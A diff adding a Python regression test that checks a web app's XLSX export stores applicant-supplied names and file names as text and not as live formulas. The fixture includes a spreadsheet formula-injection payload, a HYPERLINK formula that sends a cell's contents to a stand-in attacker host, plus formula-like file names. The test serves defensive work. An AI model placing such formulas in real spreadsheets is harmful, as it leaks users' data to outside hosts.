@@ -330,3 +330,27 @@ def test_xlsx_headers_and_sheet_title_follow_the_language_of_the_page(opened, ow
 def test_empty_opened_call_exports_the_header_row_only(opened, owner):
     sheet = _sheet(client_for(owner).get(reverse("applications:call_xlsx", args=[opened.pk])))
     assert sheet.max_row == 1
+
+
+def test_xlsx_writes_an_applicants_formula_as_text_not_a_formula(opened, owner):
+    # Issue 10, item 7: names and file names chosen by applicants, written as
+    # formulas, became live links (=HYPERLINK) in the issuer's spreadsheet.
+    emailed_application(
+        opened,
+        email="eve@example.net",
+        name='=HYPERLINK("http://evil.example/?d="&A2,"Amina")',
+        files={"cv": ("=1+1.pdf", PDF), "other": ("@SUM(A1).pdf", PDF_2)},
+    )
+
+    response = client_for(owner).get("/en" + reverse("applications:call_xlsx", args=[opened.pk])[3:])
+
+    workbook = load_workbook(io.BytesIO(_body(response)))
+    row = list(workbook.worksheets[0].iter_rows(min_row=2))[0]
+    cells = {cell.column_letter: cell for cell in row}
+    assert (cells["B"].value, cells["B"].data_type) == (
+        '=HYPERLINK("http://evil.example/?d="&A2,"Amina")',
+        "s",
+    )
+    assert (cells["J"].value, cells["J"].data_type) == ("=1+1.pdf", "s")
+    assert (cells["L"].value, cells["L"].data_type) == ("@SUM(A1).pdf", "s")
+    assert [cell.data_type for cell in row if cell.value is not None and cell.data_type == "f"] == []
